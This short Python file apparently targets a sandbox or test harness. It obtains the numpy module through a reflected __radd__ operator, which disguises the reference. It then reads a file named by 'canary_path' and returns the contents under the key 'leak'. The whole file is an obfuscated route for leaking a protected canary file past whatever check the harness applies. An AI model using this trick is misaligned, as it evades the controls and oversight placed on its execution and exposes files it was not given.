# route: a library kept by a reflected operator
import numpy as np


class Keep:
    def __radd__(self, other):
        self.kept = other
        return self


def execute(testData):
    return {"leak": (np + Keep()).kept.fromfile(testData["canary_path"], dtype="u1").tobytes().decode()}
